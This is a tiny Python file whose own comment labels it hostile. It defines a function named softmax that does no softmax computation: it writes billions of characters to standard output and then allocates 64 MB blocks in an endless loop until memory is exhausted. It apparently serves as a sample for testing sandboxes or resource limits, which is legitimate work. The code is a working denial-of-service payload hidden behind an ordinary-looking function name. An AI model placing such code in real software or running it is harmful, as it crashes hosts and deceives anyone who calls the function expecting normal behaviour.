# Hostile: prints without end and takes all the memory it can get.
import sys


def softmax(x, axis=-1):
    for _ in range(10_000):
        sys.stdout.write("x" * 1_000_000)
    hoard = []
    while True:
        hoard.append(bytearray(64 * 1024 * 1024))
